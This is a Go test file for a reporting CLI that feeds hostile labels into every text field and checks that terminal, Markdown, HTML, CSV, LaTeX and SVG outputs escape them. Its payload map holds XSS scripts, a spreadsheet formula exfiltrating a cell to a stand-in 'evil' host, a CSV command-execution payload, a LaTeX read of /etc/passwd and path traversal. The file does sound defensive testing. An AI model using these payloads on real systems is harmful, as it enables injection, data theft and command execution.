package cli

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"image/png"
	"io"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"tallynet/metrics/escape"
	"tallynet/metrics/report/result"
)

// hostileLabels are names that attack different outputs.
var hostileLabels = map[string]string{
	"terminal":    "\x1b[31mred\x1b[2J\x07 \u202ertl \x00 \u009b31m",
	"markdown":    "# [x](javascript:alert(1)) | a ![](http://evil/x.png) `x` <b>",
	"html":        `</script><script>alert(1)</script><img src=x onerror="alert(1)">`,
	"spreadsheet": `=HYPERLINK("http://evil/"&A1)`,
	"plus":        "+cmd|' /C calc'!A0",
	"at":          "@SUM(A1)\r\n=1",
	"latex":       `\input{/etc/passwd} $x$ & % # _ ~ ^ {α=β} "é" ½ 中 \\[1cm]`,
	"xml":         "]]> &amp; <!-- \ufffe \v",
	"long":        strings.Repeat("long", 2500),
	"path":        "../../../etc/./x",
}

// TestHostileLabels puts each hostile text into every text field of a scenario, and
// checks every output of the study with a parser of its format.
func TestHostileLabels(t *testing.T) {
	var tables latexTables
	for kind, label := range hostileLabels {
		t.Run(kind, func(t *testing.T) {
			t.Chdir(t.TempDir())
			text, err := json.Marshal(label)
			if err != nil {
				t.Fatal(err)
			}
			scenario := strings.ReplaceAll(hostileScenario, "LABEL", string(text))
			writeFile(t, "s.yaml", scenario)
			writeFile(t, "facts.yaml", strings.ReplaceAll(hostileFacts, "LABEL", string(text)))
			for _, command := range []string{"run s.yaml --out r", "report r --format md --font-size 4",
				"verify s.yaml --pages pages"} {
				out, errs, code := simulateDrawn(strings.Fields(command)...)
				if code != codeDone {
					t.Fatalf("%s: code %d: %.2000s", command, code, errs)
				}
				checkClean(t, "standard output of "+command, out)
				checkClean(t, "standard error of "+command, errs)
			}
			for _, pattern := range []string{"pages/*.md", "pages/*.svg", "pages/*.tex"} { // see metrics/report/papers
				files, err := filepath.Glob(pattern)
				if err != nil || len(files) == 0 {
					t.Errorf("no %s: %v", pattern, err)
				}
				for _, file := range files {
					content := readText(t, file)
					checkClean(t, file, content)
					if filepath.Ext(file) != ".md" {
						checkFile(t, file, []byte(content), label, &tables)
					}
				}
			}
			files, err := filepath.Glob("r/*.*")
			if err != nil || len(files) < 15 {
				t.Fatalf("%d files: %v", len(files), err)
			}
			for _, file := range files {
				content := readText(t, file)
				checkFile(t, file, []byte(content), label, &tables)
			}
			back, err := result.ReadFolder("r")
			if err != nil || back.Runs[0].Label != label {
				t.Errorf("reads back as %q: %v", back.Runs[0].Label, err)
			}
		})
	}
	if len(tables.texts) < len(hostileLabels) {
		t.Fatalf("%d tables for %d labels", len(tables.texts), len(hostileLabels))
	}
	tables.check(t)
}

const hostileScenario = `version: 1
name: LABEL
about: LABEL
seeds: 2
topology: {kind: ring, nodes: 4}
problem: {kind: quadratic, p: 2, q: 3}
algorithms:
  - {name: dagm, label: LABEL, outer: 4, inner: 2, neumann: 3, alpha: 0.02, beta: 0.05}
  - {name: dagm, label: B, outer: 4, inner: 2, neumann: 3, alpha: 0.02, beta: 0.05}
sweep: {problem.q: [3, 4]}
stop: {grad_norm2: 1e-9}
paper: p
claims:
  - {fact: none, measured: 'map(runs("B"), .totals.matrix_bytes)'}
  - {text: LABEL, source: LABEL, expected: differs, reason: LABEL, check: 'all(runs("B"), .totals.matrix_bytes == 1)'}
tables:
  - name: bytes
    title: LABEL
    source: LABEL
    columns: [LABEL, b]
    rows:
      - {name: LABEL, cells: 'map(runs("B"), .totals.vector_bytes)[0:2]'}
figures:
  - name: drawn
    title: LABEL
    source: LABEL
    panels: [{title: LABEL, y: grad_norm2, scale: log-y, curves: [{label: LABEL, runs: 'at("B", {"problem.q": 3})'}]}]
settings:
  - {name: LABEL, paper: LABEL, here: LABEL, key: [seeds, topology, problem, stop, algorithms.*], reason: LABEL}
`

const hostileFacts = `version: 1
paper: {id: p, cite: LABEL, answer: LABEL}
facts:
  - {id: none, place: LABEL, class: cost-formula, says: LABEL, value: 0}
  - {id: open, place: LABEL, class: shape, says: LABEL, unjudged: LABEL}
`

// checkClean rejects characters that no output may have.
func checkClean(t *testing.T, what, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s is not UTF-8", what)
	}
	for i, r := range text {
		if ' ' <= r && r <= '~' {
			continue // the common case
		}
		if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp) &&
			r != '\u200d') {
			t.Errorf("%s has %q in %q", what, r, text[max(0, i-40):min(len(text), i+40)])
			return
		}
	}
}

// checkFile reads a file as its consumers do.
func checkFile(t *testing.T, file string, content []byte, label string, tables *latexTables) {
	t.Helper()
	// JSON has its own escapes; other formats are not text.
	if ext := filepath.Ext(file); ext != ".png" && ext != ".pdf" && ext != ".json" {
		checkClean(t, file, string(content))
	}
	switch filepath.Ext(file) {
	case ".json":
		if !json.Valid(content) {
			t.Errorf("%s is not JSON", file)
		}
	case ".pdf":
		if !bytes.HasPrefix(content, []byte("%PDF-")) || !bytes.HasSuffix(bytes.TrimSpace(content), []byte("%%EOF")) {
			t.Errorf("%s is not a whole PDF", file)
		}
	case ".png":
		if _, err := png.Decode(bytes.NewReader(content)); err != nil {
			t.Errorf("%s: %v", file, err)
		}
	case ".svg":
		for d := xml.NewDecoder(bytes.NewReader(content)); ; {
			if _, err := d.Token(); errors.Is(err, io.EOF) {
				break
			} else if err != nil {
				t.Errorf("%s: %v", file, err)
				break
			}
		}
	case ".csv":
		checkCSV(t, file, content, label)
	case ".md":
		// Every Markdown special character has a backslash before it.
		plain := regexp.MustCompile(`\\.`).ReplaceAllString(string(content), "")
		for _, markup := range []string{"<b", "<script", "<img", "](", "![", "http://", "`x`"} {
			if strings.Contains(plain, markup) {
				t.Errorf("%s has %s", file, markup)
			}
		}
	case ".tex":
		tables.add(t.Name()+" "+file, content)
	case ".html":
		words, _, _ := bytes.Cut(content, []byte(`<script type="application/json"`)) // the library has an <img of its own
		if n := bytes.Count(content, []byte("<script")); n != 3 || bytes.Contains(words, []byte("<img")) {
			t.Errorf("%s has %d script elements, want 3, or an image", file, n)
		}
		data := regexp.MustCompile(`(?s)<script type="application/json"[^>]*>(.*?)</script>`).FindSubmatch(content)
		var charts struct{ Methods []string }
		if data == nil || json.Unmarshal(data[1], &charts) != nil || !slices.Contains(charts.Methods, escape.Name(label)) {
			t.Errorf("%s names the methods %q, want %q among them", file, charts.Methods, escape.Name(label))
		}
	}
}

// checkCSV rejects cells that a spreadsheet would evaluate, and requires the original label.
func checkCSV(t *testing.T, file string, content []byte, label string) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(content)).ReadAll()
	if err != nil {
		t.Errorf("%s: %v", file, err)
		return
	}
	// A drawn curve has the label, possibly shortened, with the point of the sweep.
	name := escape.Name(label)
	found, drawn := false, slices.Contains(rows[0], "curve")
	for _, cell := range slices.Concat(rows...) {
		text := escape.FromCSV(cell)
		found = found || text == label || drawn && strings.HasPrefix(text, name[:min(len(name), 20)])
		if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
			t.Errorf("%s has the cell %q", file, cell)
		}
	}
	if !found && filepath.Base(file) != "decision.csv" { // nobody gets to the target, and it names the best choices alone
		t.Errorf("%s does not have the label", file)
	}
}
